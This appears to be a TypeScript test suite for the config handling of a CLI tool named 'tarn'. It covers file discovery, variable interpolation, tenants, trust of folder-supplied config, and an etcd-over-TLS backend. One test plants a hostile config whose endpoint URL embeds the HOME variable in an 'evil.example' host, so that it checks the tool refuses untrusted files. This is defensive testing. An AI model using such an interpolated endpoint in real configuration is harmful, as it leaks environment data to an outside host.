/** The configuration as the executable finds it: variables, folders, trust, and an etcd with TLS. */

import assert from "node:assert/strict";
import { mkdirSync, readdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, it } from "node:test";
import { requireEtcd, startEtcd } from "../services/services.ts";
import { runBinary } from "../support/binary.ts";
import { type Ending, temporaryFolder } from "../support/temporary.ts";

function prepared(t: Ending) {
  const folder = temporaryFolder(t);
  const work = join(folder, "project", "inner");
  mkdirSync(work, { recursive: true });
  const environment: Record<string, string> = { HOME: folder };
  const tarn = (...args: string[]) => runBinary(args, { folder: work, environment });
  const show = (...args: string[]) => {
    const { exitCode, stdout, stderr } = tarn("config", "show", "--json", ...args);
    assert.equal(exitCode, 0, stderr);
    return JSON.parse(stdout);
  };
  return { folder, work, environment, tarn, show };
}

describe("the executable", () => {
  it("finds --config, TARN_CONFIG, the nearest tarn.yaml upward, the user's own, or none", (t) => {
    const { folder, work, environment, show } = prepared(t);
    const write = (path: string, root: string) => {
      mkdirSync(join(path, ".."), { recursive: true });
      writeFileSync(path, `cache: {root: ${root}}\n`);
    };
    assert.deepEqual(show(), {});
    write(join(folder, ".config", "tarn", "tarn.yaml"), "/own");
    assert.equal(show().cache.root, "/own");
    write(join(folder, "xdg", "tarn", "tarn.yaml"), "/xdg");
    environment["XDG_CONFIG_HOME"] = join(folder, "xdg");
    assert.equal(show().cache.root, "/xdg");
    write(join(folder, "project", "tarn.yaml"), "/project");
    assert.equal(show().cache.root, "/project");
    write(join(work, "other.yaml"), "/other");
    environment["TARN_CONFIG"] = "other.yaml";
    assert.equal(show().cache.root, "/other");
    assert.equal(show("--config", "../tarn.yaml").cache.root, "/project");
  });

  it("reads variables as they are, empty ones too, and TARN_TENANT", (t) => {
    const { work, environment, show, tarn } = prepared(t);
    environment["TARN_CONFIG"] = "tarn.yaml";
    writeFileSync(
      join(work, "tarn.yaml"),
      'stores: {s3-a: {driver: s3, profile: "a${oc.env:P,none}"}}\n' +
        "tenants: {acme: {stores: {s3-acme: {driver: s3}}}, globex: {stores: {s3-globex: {driver: s3}}}}\n",
    );
    assert.equal(show("--resolved").stores["s3-a"].profile, "anone");
    environment["P"] = "";
    assert.equal(show("--resolved").stores["s3-a"].profile, "a");
    environment["TARN_TENANT"] = "acme";
    assert.deepEqual(Object.keys(show().stores), ["s3-a", "s3-acme"]);
    assert.deepEqual(Object.keys(show("--tenant", "globex").stores), ["s3-a", "s3-globex"]);
    environment["TARN_TENANT"] = "initech";
    assert.equal(tarn("config", "show").exitCode, 3);
  });

  it("trusts a tarn.yaml that came with a folder once its user says so", (t) => {
    const { folder, work, tarn } = prepared(t);
    const file = join(folder, "project", "tarn.yaml");
    writeFileSync(
      file,
      'stores: {s3-a: {driver: s3, endpoint_url: "https://${oc.env:HOME}.evil.example"}}\n',
    );
    const refused = tarn("config", "show", "--resolved");
    assert.equal(refused.exitCode, 5);
    assert.match(refused.stderr, new RegExp(`Read it, then run: tarn config trust ${file}`));
    assert.ok(!refused.stderr.includes("evil"));
    assert.equal(tarn("config", "trust", "../tarn.yaml").exitCode, 0);
    assert.deepEqual(readdirSync(join(folder, ".config", "tarn")), ["trusted"]);
    // The value is no host: it was read.
    assert.match(
      tarn("config", "show", "--resolved").stderr,
      /"stores.s3-a.endpoint_url": it must look like/,
    );
    writeFileSync(file, "hooks: [x]\n");
    assert.equal(tarn("config", "show", "--resolved").exitCode, 5);
    assert.equal(tarn("config", "show", "--resolved", "--config", "../tarn.yaml").exitCode, 0);
    assert.deepEqual(readdirSync(work), []);
  });

  it("pushes to etcd over TLS with its own certificates, and reads it from there", async (t) => {
    if (!requireEtcd(t)) return;
    const { work, environment, tarn, show } = prepared(t);
    const server = await startEtcd(work);
    t.after(() => server.stop());
    writeFileSync(join(work, "tarn.yaml"), "cache: {root: /c}\n");
    const query = "?ca_file=ca.pem&cert_file=client.pem&key_file=client.key";
    const etcd = `etcd+https://127.0.0.1:${server.port}/tarn`;
    const pushed = tarn("config", "push", `${etcd}${query}`);
    assert.equal(pushed.exitCode, 0, pushed.stderr);
    environment["TARN_CONFIG"] = `${etcd}${query}`;
    assert.deepEqual(show(), { cache: { root: "/c" } });
    const stranger = tarn("config", "show", "--config", `${etcd}?ca_file=ca.pem`);
    assert.equal(stranger.exitCode, 8);
    assert.ok(
      stranger.stderr.startsWith(`tarn: Cannot use "${etcd}": the connection failed`),
      stranger.stderr,
    );
  });
});
